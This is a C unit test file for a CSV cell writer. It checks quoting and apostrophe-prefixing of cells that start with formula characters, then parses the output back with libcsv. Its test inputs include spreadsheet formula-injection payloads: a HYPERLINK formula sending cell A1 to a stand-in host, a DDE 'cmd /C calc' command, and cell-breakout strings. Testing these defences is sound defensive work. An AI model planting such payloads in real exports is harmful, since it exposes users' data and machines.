/* SPDX-License-Identifier: Apache-2.0 */
/* Unit tests of src/common/xy_csv.c: the exact bytes of a cell, the formula-starting characters of
 * OWASP's list and none other, and every hostile cell read back by libcsv (the parser the importer
 * uses) as one field holding the apostrophe and the text as sent. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>
#include <csv.h>

#include "common/xy_buf.h"
#include "common/xy_csv.h"
#include "common/xy_error.h"

/* The cell xy_csv_cell() writes for s[0..n). */
static void expect_cell(const char *s, size_t n, const char *want)
{
    struct xy_buf b;
    xy_buf_init(&b, 1u << 16);
    assert_int_equal(xy_csv_cell(&b, s, n), XY_OK);
    assert_string_equal(xy_buf_str(&b), want);
    xy_buf_release(&b);
}

#define CELL(lit, want) expect_cell(lit, sizeof lit - 1, want)

static void test_plain(void **state)
{
    (void)state;
    CELL("abc", "\"abc\"");
    CELL("武汉华鑫科技有限公司", "\"武汉华鑫科技有限公司\"");
    CELL("", "\"\"");
    expect_cell(NULL, 0, "\"\"");
    /* The characters of the list, inside the text, start nothing. */
    CELL("1+1", "\"1+1\"");
    CELL("a=b", "\"a=b\"");
    CELL("2024-03-05", "\"2024-03-05\"");
    CELL("x@y.example", "\"x@y.example\"");
    CELL("0.2", "\"0.2\"");
}

static void test_quotes(void **state)
{
    (void)state;
    CELL("say \"hi\"", "\"say \"\"hi\"\"\"");
    CELL("\"", "\"\"\"\"");
    CELL("a,b\r\nc", "\"a,b\r\nc\"");
}

static void test_formula_leads(void **state)
{
    (void)state;
    CELL("=HYPERLINK(\"http://x.example/?d=\"&A1,\"y\")", "\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&A1,\"\"y\"\")\"");
    CELL("+1+1", "\"'+1+1\"");
    CELL("-2+3", "\"'-2+3\"");
    CELL("@SUM(1,2)", "\"'@SUM(1,2)\"");
    CELL("\t=1+1", "\"'\t=1+1\"");
    CELL("\r=1+1", "\"'\r=1+1\"");
    CELL("=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\"");
    /* A negative number is text from outside like any other: prefixed too. */
    CELL("-5", "\"'-5\"");
    CELL("=", "\"'=\"");
}

static void test_lead_predicate(void **state)
{
    (void)state;
    const char *yes = "=+-@\t\r";
    for (const char *p = yes; *p; p++)
        assert_true(xy_csv_formula_lead(p, 1));
    /* Every other byte value, alone, is not a lead. */
    for (int c = 1; c < 256; c++) {
        char s[1] = {(char)c};
        if (!strchr(yes, c))
            assert_false(xy_csv_formula_lead(s, 1));
    }
    assert_false(xy_csv_formula_lead("=1", 0));
    assert_false(xy_csv_formula_lead(NULL, 0));
    assert_false(xy_csv_formula_lead(" =1+1", 5));
}

static void test_length_not_nul(void **state)
{
    (void)state;
    /* The length given counts, not a NUL: a cell of "=a\0b" and one of "a" cut from "a=b". */
    expect_cell("=a\0b", 4, "\"'=a\0b\"");
    struct xy_buf b;
    xy_buf_init(&b, 64);
    assert_int_equal(xy_csv_cell(&b, "=a\0b", 4), XY_OK);
    assert_int_equal(b.len, 7);
    assert_memory_equal(b.data, "\"'=a\0b\"", 7);
    xy_buf_reset(&b);
    assert_int_equal(xy_csv_cell(&b, "a=b", 1), XY_OK);
    assert_string_equal(xy_buf_str(&b), "\"a\"");
    assert_int_equal(xy_csv_cellz(&b, NULL), XY_OK);
    assert_int_equal(xy_csv_cellz(&b, "-1"), XY_OK);
    assert_string_equal(xy_buf_str(&b), "\"a\"\"\"\"'-1\"");
    xy_buf_release(&b);
}

static void test_whole_or_nothing(void **state)
{
    (void)state;
    struct xy_buf b;
    /* Room for what is there and a few bytes: a cell that does not fit leaves the buffer as it was,
     * whichever byte it would have failed at. */
    const char *v = "=\"a\"\"b\"";
    for (size_t max = 3; max < 16; max++) {
        xy_buf_init(&b, max);
        assert_int_equal(xy_buf_addz(&b, "x,"), XY_OK);
        int rc = xy_csv_cellz(&b, v);
        if (rc == XY_OK) {
            assert_string_equal(xy_buf_str(&b), "x,\"'=\"\"a\"\"\"\"b\"\"\"");
        } else {
            assert_int_equal(rc, XY_ETOOBIG);
            assert_int_equal(b.len, 2);
            assert_string_equal(xy_buf_str(&b), "x,");
        }
        xy_buf_release(&b);
    }
}

/* ---- read back by libcsv ---- */

struct fields {
    int n;
    char text[8][128];
    size_t len[8];
};

static void on_field(void *s, size_t len, void *data)
{
    struct fields *f = data;
    if (f->n < 8 && len < sizeof f->text[0]) {
        memcpy(f->text[f->n], s ? s : "", len);
        f->len[f->n] = len;
    }
    f->n++;
}

static void test_read_back(void **state)
{
    (void)state;
    /* Each of these, written as the middle cell of a line, reads back as one field: the text with
     * an apostrophe before it when it starts with a lead. A quote, comma or line break inside never
     * opens a new cell. */
    static const char *const hostile[] = {
        "=HYPERLINK(\"http://x.example/\",\"y\")",
        "+1+1",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
        "x\",=1+1",
        "x,=1+1",
        "x\r\n=1+1",
        "\"=1+1",
        "中文,\"=1\"",
    };
    for (size_t i = 0; i < sizeof hostile / sizeof *hostile; i++) {
        struct xy_buf b;
        struct csv_parser p;
        struct fields f = {0};
        xy_buf_init(&b, 1u << 16);
        assert_int_equal(xy_buf_addz(&b, "1,"), XY_OK);
        assert_int_equal(xy_csv_cellz(&b, hostile[i]), XY_OK);
        assert_int_equal(xy_buf_addz(&b, ",\"end\"\r\n"), XY_OK);
        assert_int_equal(csv_init(&p, CSV_STRICT | CSV_STRICT_FINI), 0);
        assert_int_equal(csv_parse(&p, b.data, b.len, on_field, NULL, &f), b.len);
        assert_int_equal(csv_fini(&p, on_field, NULL, &f), 0);
        csv_free(&p);
        assert_int_equal(f.n, 3);
        char want[128];
        size_t n = strlen(hostile[i]);
        size_t w = 0;
        if (xy_csv_formula_lead(hostile[i], n))
            want[w++] = '\'';
        memcpy(want + w, hostile[i], n);
        w += n;
        assert_int_equal(f.len[1], w);
        assert_memory_equal(f.text[1], want, w);
        assert_int_equal(f.len[2], 3);
        assert_memory_equal(f.text[2], "end", 3);
        /* No field read back starts a formula, save through the apostrophe. */
        for (int k = 0; k < 3; k++)
            assert_false(xy_csv_formula_lead(f.text[k], f.len[k]));
        xy_buf_release(&b);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_plain),           cmocka_unit_test(test_quotes),
        cmocka_unit_test(test_formula_leads),   cmocka_unit_test(test_lead_predicate),
        cmocka_unit_test(test_length_not_nul),  cmocka_unit_test(test_whole_or_nothing),
        cmocka_unit_test(test_read_back),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
